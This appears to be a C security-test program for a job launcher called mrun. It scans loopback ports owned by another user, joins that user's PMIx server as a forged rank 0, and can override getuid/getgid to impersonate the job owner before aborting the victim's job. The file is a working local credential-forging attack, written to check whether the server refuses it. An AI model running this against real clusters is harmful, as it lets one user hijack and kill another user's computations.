/* sec_pmix_join.c — a second local user tries to join somebody else's mrun job through its PMIx
 * server (issue 9, attacks 1 and 2). Run as the stranger:
 *   sec_pmix_join PARENT forge|honest SECONDS
 * finds the mrun whose parent is PARENT, scans /proc/net/tcp for listening loopback sockets owned
 * by mrun's uid (the rendezvous files are in mrun's 0700 dir, the ranks' environment is not
 * readable: scanning is what a stranger can do) and, for each port, runs itself as a PMIx client
 * claiming to be rank 0 of namespace mrun-<pid>. With "forge" the client also lies about its ids:
 * getuid/geteuid/getgid/getegid below interpose on libc's for libpmix (what an LD_PRELOAD shim
 * does) and return mrun's. A client that gets in reads the job size and calls PMIx_Abort(99).
 * Lines: "attack: port P: joined ..." or "attack: port P: refused: ...", then
 * "attack: A attempt(s), J joined". Runs until mrun exits or SECONDS pass. Exit 0 unless the
 * attacker itself failed (1). */
#include <pmix.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>

#include "sec_common.h"

#define MAX_PORTS 64
#define CLIENT_SECS 10 /* one PMIx_Init attempt, at most */

/* ---- the forged identity (when SEC_FAKE_UID/GID are set: the client half, forge mode) ---- */

static long fake_id(const char *var, long real)
{
    const char *v = getenv(var);
    return v && *v ? atol(v) : real;
}

uid_t getuid(void)
{
    return (uid_t)fake_id("SEC_FAKE_UID", syscall(SYS_getuid));
}

uid_t geteuid(void)
{
    return (uid_t)fake_id("SEC_FAKE_UID", syscall(SYS_geteuid));
}

gid_t getgid(void)
{
    return (gid_t)fake_id("SEC_FAKE_GID", syscall(SYS_getgid));
}

gid_t getegid(void)
{
    return (gid_t)fake_id("SEC_FAKE_GID", syscall(SYS_getegid));
}

/* ---- the client: one PMIx_Init against the server named by the environment ---- */

static int client(const char *port)
{
    alarm(CLIENT_SECS);
    pmix_proc_t me;
    pmix_status_t rc = PMIx_Init(&me, NULL, 0);
    if (rc != PMIX_SUCCESS) {
        sec_say("attack: port %s: refused: PMIx_Init: %s", port, PMIx_Error_string(rc));
        return 2;
    }
    pmix_proc_t job;
    PMIX_LOAD_PROCID(&job, me.nspace, PMIX_RANK_WILDCARD);
    pmix_value_t *val = NULL;
    rc = PMIx_Get(&job, PMIX_JOB_SIZE, NULL, 0, &val);
    unsigned size = rc == PMIX_SUCCESS && val && val->type == PMIX_UINT32 ? val->data.uint32 : 0;
    if (val)
        PMIX_VALUE_RELEASE(val);
    sec_say("attack: port %s: joined %s as rank %u (job size %u); calling PMIx_Abort(99)", port,
            me.nspace, me.rank, size);
    rc = PMIx_Abort(99, "a stranger ends your job", NULL, 0);
    sec_say("attack: port %s: PMIx_Abort returned %s", port, PMIx_Error_string(rc));
    PMIx_Finalize(NULL, 0);
    return 0;
}

/* ---- the scan ---- */

/* Ports of LISTEN (state 0A) sockets on 127.0.0.1 owned by uid, from /proc/net/tcp. */
static int listening_ports(long uid, int *ports, int max)
{
    FILE *f = fopen("/proc/net/tcp", "r");
    if (!f)
        return 0;
    char line[512];
    int n = 0;
    while (n < max && fgets(line, sizeof line, f)) {
        unsigned addr, port, st;
        long owner;
        if (sscanf(line, " %*d: %8X:%4X %*8X:%*4X %2X %*8X:%*8X %*2X:%*8X %*8X %ld", &addr, &port,
                   &st, &owner) == 4 &&
            st == 0x0A && addr == 0x0100007F && owner == uid)
            ports[n++] = (int)port;
    }
    fclose(f);
    return n;
}

/* Runs the client half against port; its exit: 0 joined, 2 refused, else it failed. */
static int try_port(const char *self, long mrun, int port, bool forge, long uid, long gid)
{
    char ns[64], uri[128], portstr[16], fu[32], fg[32];
    snprintf(ns, sizeof ns, "PMIX_NAMESPACE=mrun-%ld", mrun);
    snprintf(uri, sizeof uri, "pmix-server.%ld;tcp4://127.0.0.1:%d", mrun, port);
    snprintf(portstr, sizeof portstr, "%d", port);
    snprintf(fu, sizeof fu, "%ld", uid);
    snprintf(fg, sizeof fg, "%ld", gid);
    pid_t pid = fork();
    if (pid < 0) {
        sec_say("attack: fork: %s", strerror(errno));
        return -1;
    }
    if (pid == 0) {
        const char *uris[] = {"PMIX_SERVER_URI41", "PMIX_SERVER_URI4", "PMIX_SERVER_URI3",
                              "PMIX_SERVER_URI2", "PMIX_SERVER_URI21"};
        for (size_t i = 0; i < sizeof uris / sizeof *uris; i++)
            setenv(uris[i], uri, 1);
        putenv(ns);
        setenv("PMIX_RANK", "0", 1);
        setenv("PMIX_SECURITY_MODE", "native", 1);
        setenv("PMIX_GDS_MODULE", "hash", 1);
        setenv("PMIX_BFROP_BUFFER_TYPE", "PMIX_BFROP_BUFFER_NON_DESC", 1);
        if (forge) {
            setenv("SEC_FAKE_UID", fu, 1);
            setenv("SEC_FAKE_GID", fg, 1);
        }
        execl(self, self, "client", portstr, (char *)NULL);
        sec_say("attack: exec %s: %s", self, strerror(errno));
        _exit(1);
    }
    int ws;
    double until = sec_now() + CLIENT_SECS + 2;
    while (waitpid(pid, &ws, WNOHANG) == 0) {
        if (sec_now() > until) {
            kill(pid, SIGKILL);
            waitpid(pid, &ws, 0);
            sec_say("attack: port %d: the client hung; killed", port);
            return -1;
        }
        sec_sleep_ms(10);
    }
    return WIFEXITED(ws) ? WEXITSTATUS(ws) : -1;
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "client") == 0)
        return client(argv[2]);
    if (argc != 4 || (strcmp(argv[2], "forge") && strcmp(argv[2], "honest"))) {
        fprintf(stderr, "usage: %s PARENT forge|honest SECONDS\n", argv[0]);
        return 1;
    }
    bool forge = strcmp(argv[2], "forge") == 0;
    double until = sec_now() + atof(argv[3]);
    long mrun = sec_wait_mrun(atol(argv[1]), atof(argv[3])), uid, gid;
    if (mrun < 0 || !sec_owner(mrun, &uid, &gid)) {
        sec_say("attack: no mrun started by pid %s", argv[1]);
        return 1;
    }
    sec_say("attack: mrun pid %ld, uid %ld, mode %s", mrun, uid, argv[2]);
    int tried[MAX_PORTS], ntried = 0, joined = 0;
    while (sec_alive(mrun) && sec_now() < until && ntried < MAX_PORTS) {
        int ports[MAX_PORTS];
        int n = listening_ports(uid, ports, MAX_PORTS);
        for (int i = 0; i < n && ntried < MAX_PORTS; i++) {
            bool seen = false;
            for (int j = 0; j < ntried; j++)
                seen |= tried[j] == ports[i];
            if (seen)
                continue;
            tried[ntried++] = ports[i];
            joined += try_port(argv[0], mrun, ports[i], forge, uid, gid) == 0;
        }
        sec_sleep_ms(20);
    }
    sec_say("attack: %d attempt(s), %d joined", ntried, joined);
    return 0;
}
